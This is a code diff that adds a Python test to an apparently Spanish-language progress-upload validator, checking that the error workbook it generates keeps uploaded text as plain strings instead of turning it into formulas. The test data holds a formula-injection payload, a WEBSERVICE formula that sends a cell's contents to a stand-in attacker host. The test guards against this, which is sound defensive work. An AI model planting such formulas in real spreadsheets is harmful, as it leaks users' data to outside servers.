@@ -74,3 +74,14 @@ def _sheet(rows: list[list[object]]) -> openpyxl.Workbook:
     for row in rows:
         sheet.append(row)
     return book
+
+
+def test_the_error_workbook_never_turns_uploaded_text_into_formulas(engine: Engine) -> None:
+    codes = small_plan(engine)
+    hostile = '=WEBSERVICE("http://evil.example/?"&A2)'
+    csv = f"Código compromiso;Fecha de corte;Avance físico (%);{hostile}\n{codes[0]};x;5;{hostile}\n"
+    with Session(engine) as session:
+        checked = validate_progress(session=session, data=csv.encode(), file_name="p.csv", today=TODAY)
+    sheet = openpyxl.load_workbook(io.BytesIO(error_workbook(checked))).active
+    assert sheet is not None
+    assert [(c.value, c.data_type) for c in (sheet["E1"], sheet["E2"])] == [(hostile, "s"), (hostile, "s")]
